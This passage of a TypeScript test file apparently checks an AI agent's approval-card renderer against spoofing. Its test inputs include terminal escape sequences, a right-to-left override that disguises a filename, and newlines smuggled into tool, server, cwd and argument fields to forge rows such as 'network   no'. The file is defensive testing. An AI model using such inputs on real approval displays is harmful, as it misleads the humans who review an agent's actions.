    expect(renderCard(cards[1]!, { color: false })).toContain("command   sh -c 'echo '\\''hi'\\'''\n");
    expect(renderCard(cards[1]!, { color: false })).toContain("network   yes: the command may reach the network\n");
    expect(renderCard(cards[2]!, { color: false })).toContain('arguments\n{\n  "a": 1\n}\n');
    expect(renderCard(cards[3]!, { color: false })).toContain("(no changes)");
  });

  it("shows control and bidi characters from the content as escapes, never raw", async () => {
    const hostile = (await filesCard([change("src/evil.txt", "ok\n", "ok\x1b[2K\rall fine \u202eexe.txt\n")], [])).card;
    const out = renderCard(hostile, { color: false });
    expect(out).not.toContain(ESC);
    expect(out).not.toContain("\r");
    expect(out).not.toContain("\u202e");
    expect(out).toContain("+ok\\x1b[2K\\rall fine \\u202eexe.txt");
    expect(visible("tab\tstays")).toBe("tab\tstays");
    expect(visible("a\u{e0041}b ✓ é")).toBe("a\\u{e0041}b ✓ é");
    const call = renderCard(mcpCard({ server: "s", tool: "t", args: { x: "\u0085\u200b" } }), { color: true });
    expect(call).not.toMatch(/[\u0085\u200b]/);
  });

  it("folds every line to the terminal's width itself, so a long name or line cannot wrap into a row that reads as IronClaw's", async () => {
    const forged = "── added .envrc";
    const pad = (n: number) => "x".repeat(n);
    const { card } = await filesCard([change(`${pad(30)}${forged}`, null, `${pad(38)}${forged}\n\t\t\t\t${forged}\n`), change("wide.txt", null, `${"界".repeat(30)}\n`)], []);
    const rows = renderCard(card, { color: false, width: 40 }).replace(/\n$/, "").split("\n");
    for (const row of rows)
      expect(
        [...row].reduce((n, ch) => n + (ch === "\t" ? 8 : ch < "\x80" ? 1 : 2), 0),
        row,
      ).toBeLessThanOrEqual(39);
    expect(rows.filter((r) => r.startsWith("── "))).toEqual([expect.stringMatching(/^── Write/), "── added wide.txt", expect.stringMatching(/^── added xxx/)]);
    expect(rows.some((r) => r.startsWith("↳ ") && r.includes("envrc"))).toBe(true);
    // Without a width (a pipe, a file) lines stay whole.
    expect(renderCard(card, { color: false })).toContain(`+${pad(38)}${forged}\n`);
    expect(renderCard(card, { color: false, width: 0 })).toContain(`+${pad(38)}${forged}\n`);
    // Colour wraps each row's pieces, never a row break.
    const coloured = renderCard(card, { color: true, width: 40 }).split("\n");
    expect(coloured.length).toBe(rows.length + 1);
  });

  it("keeps a tool's, server's, command's or cwd's newline from starting a line of its own", () => {
    const call = renderCard(mcpCard({ server: "s\nnetwork   no", tool: "t\narguments", args: { a: "x\ny" } }), { color: false }).split("\n");
    expect(call).toContain("server    s\\nnetwork   no");
    expect(call).toContain("tool      t\\narguments");
    expect(call.filter((l) => l.startsWith("network") || l === "arguments")).toEqual(["arguments"]);
    const exec = renderCard(execCard({ argv: ["ls", "a\nnetwork   no"], cwd: "/w\nenv", envNames: ["A\nB"], network: true }), { color: false }).split("\n");
    expect(exec).toContain("command   ls 'a\\nnetwork   no'");
    expect(exec).toContain("cwd       /w\\nenv");
    expect(exec.filter((l) => l.startsWith("network"))).toEqual(["network   yes: the command may reach the network"]);
  });
});
